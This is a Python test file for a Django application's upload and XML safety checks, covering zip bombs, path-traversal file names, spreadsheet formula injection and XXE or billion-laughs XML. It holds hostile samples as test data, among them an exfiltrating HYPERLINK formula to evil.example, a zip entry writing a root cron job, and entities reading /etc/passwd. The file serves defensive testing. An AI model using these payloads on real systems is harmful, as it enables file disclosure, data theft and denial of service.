"""Uploads (size, type by content, zip bombs, file names), formula injection in exported
spreadsheets, and hostile XML on the signature verification path."""

from __future__ import annotations

import io
import zipfile
from datetime import date

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from cbccvc.safexml import UnsafeXML, parse_untrusted
from cbccvc.uploads import KEY_FILE, SPREADSHEET, XLSX, check_upload, safe_filename
from cbccvc.xlsx_safety import safe_cell, unsafe_cell


def _xlsx(rows: list[list[object]] | None = None) -> bytes:
    workbook = Workbook()
    for row in rows or [["Mã", "Tên"], ["H25", "Tỉnh Phú Thọ"]]:
        workbook.active.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def _zip_bomb(inner_bytes: int) -> bytes:
    """A valid-looking xlsx whose one sheet inflates to ``inner_bytes`` of zeros."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * inner_bytes)
    return out.getvalue()


def _upload(name: str, data: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data)


def test_a_real_spreadsheet_passes():
    checked = check_upload(_upload("don-vi.xlsx", _xlsx()), allowed=SPREADSHEET)
    assert checked.kind == XLSX and checked.uncompressed_size > 0


@pytest.mark.parametrize(
    ("name", "data", "code"),
    [
        ("don-vi.xlsx", b"", "empty"),
        ("don-vi.xlsx", b"<html><script>alert(1)</script></html>", "wrong_type"),
        ("don-vi.xlsx", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00", "wrong_type"),  # an .exe
        ("don-vi.xlsx", b"%PDF-1.7\n", "wrong_type"),
        ("khoa.p12", _xlsx(), "wrong_type"),  # a spreadsheet renamed to .p12
    ],
)
def test_type_comes_from_the_bytes_not_the_name(name, data, code):
    allowed = KEY_FILE if name.endswith(".p12") else {XLSX}
    with pytest.raises(ValidationError) as info:
        check_upload(_upload(name, data), allowed=allowed)
    assert info.value.code == code


@override_settings(CBCCVC_UPLOAD_MAX_BYTES=64 * 1024)
def test_oversized_file_is_refused_before_reading():
    with pytest.raises(ValidationError) as info:
        check_upload(_upload("lon.xlsx", _xlsx() + b"\0" * 70_000), allowed={XLSX})
    assert info.value.code == "too_large" and "tối đa" in info.value.message


def test_zip_bomb_is_refused_from_the_directory_alone():
    bomb = _zip_bomb(20 * 1024 * 1024)  # 20 MB of zeros in ~20 KB
    assert len(bomb) < 100_000
    with pytest.raises(ValidationError) as info:
        check_upload(_upload("bom.xlsx", bomb), allowed={XLSX})
    assert info.value.code == "zip_bomb"
    with (
        override_settings(CBCCVC_UPLOAD_MAX_ZIP_RATIO=10**9),
        override_settings(CBCCVC_UPLOAD_MAX_UNZIPPED_BYTES=1024 * 1024),
        pytest.raises(ValidationError) as info,
    ):
        check_upload(_upload("bom.xlsx", bomb), allowed={XLSX})
    assert info.value.code == "zip_bomb" and "quá lớn" in info.value.message


def test_zip_member_climbing_out_is_refused():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("../../etc/cron.d/x", "* * * * * root sh")
    with pytest.raises(ValidationError) as info:
        check_upload(_upload("x.xlsx", out.getvalue()), allowed={XLSX})
    assert info.value.code == "zip_path"


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("../../etc/passwd", "passwd"),
        ("/etc/shadow", "shadow"),
        ("..\\..\\windows\\system32\\cmd.exe", "cmd.exe"),
        ("bao-cao.xlsx\x00.exe", "bao-cao.xlsx.exe"),
        ("..", "tep-tai-len"),
        ("", "tep-tai-len"),
        (".htaccess", "htaccess"),
        ("danh sách\r\n.xlsx", "danh sách.xlsx"),
    ],
)
def test_path_tricks_in_file_names(name, expected):
    assert safe_filename(name) == expected


def test_very_long_file_name_is_cut_keeping_the_extension():
    name = safe_filename("ễ" * 400 + ".xlsx")
    assert len(name.encode()) <= 255 and name.endswith(".xlsx")


def test_unit_import_refuses_a_zip_bomb_and_writes_nothing(client, django_user_model):
    from orgtree.models import Unit

    admin = django_user_model.objects.create_superuser("quantri.tw", password=None)
    client.force_login(admin)
    before = Unit.objects.count()
    response = client.post(
        reverse("admin:orgtree_unit_import_excel"),
        {"file": _upload("../../don-vi.xlsx", _zip_bomb(20 * 1024 * 1024)), "dry_run": ""},
    )
    assert response.status_code == 200
    assert "bom nén" in response.content.decode()
    assert Unit.objects.count() == before


# -- formula injection -------------------------------------------------------------------------
@pytest.mark.parametrize(
    "value", ["=1+2", "+SUM(A1)", "-2+3", "@cmd", "\t=1", "\r=1", '=HYPERLINK("http://x","y")']
)
def test_safe_cell_neutralises_formulas(value):
    assert safe_cell(value) == "'" + value
    assert unsafe_cell(safe_cell(value)) == value


def test_safe_cell_leaves_data_alone():
    for value in ("Sở Nội vụ", "H25.01", -5, 3.5, date(2025, 7, 1), None, "a=b", "'quoted"):
        assert safe_cell(value) == value


def test_unit_export_neutralises_formula_cells(make_unit):
    from orgtree.unit_io import _text, export_units, read_rows

    make_unit('=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', code="H25")
    out = io.BytesIO()
    export_units(out)
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    names = [cell for row in sheet.iter_rows(min_row=2) for cell in row[1:2]]
    assert names and all(c.data_type == "s" for c in names)
    assert names[0].value.startswith("'=HYPERLINK")
    # reading our own export back gives the name as it was typed
    rows, errors = read_rows(io.BytesIO(out.getvalue()))
    assert not errors and _text(rows[0].raw["name"]).startswith("=HYPERLINK")


# -- XML ---------------------------------------------------------------------------------------
BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<HoSo>&lol3;</HoSo>"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><HoSo>&xxe;</HoSo>"""
XXE_PARAM = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % p SYSTEM "http://127.0.0.1:9/x.dtd"> %p;]><HoSo/>"""


@pytest.mark.parametrize("document", [BILLION_LAUGHS, XXE, XXE_PARAM])
def test_hostile_xml_is_refused(document):
    with pytest.raises(UnsafeXML):
        parse_untrusted(document)


@pytest.mark.parametrize("document", [BILLION_LAUGHS, XXE, XXE_PARAM])
def test_signature_verification_refuses_hostile_xml(document):
    from signing.trust import TrustStore
    from signing.xmlsig import verify_document

    result = verify_document(document, TrustStore())
    assert not result.ok and result.codes == ["malformed"]
    assert "root:" not in str(result.as_dict())  # nothing of /etc/passwd leaked
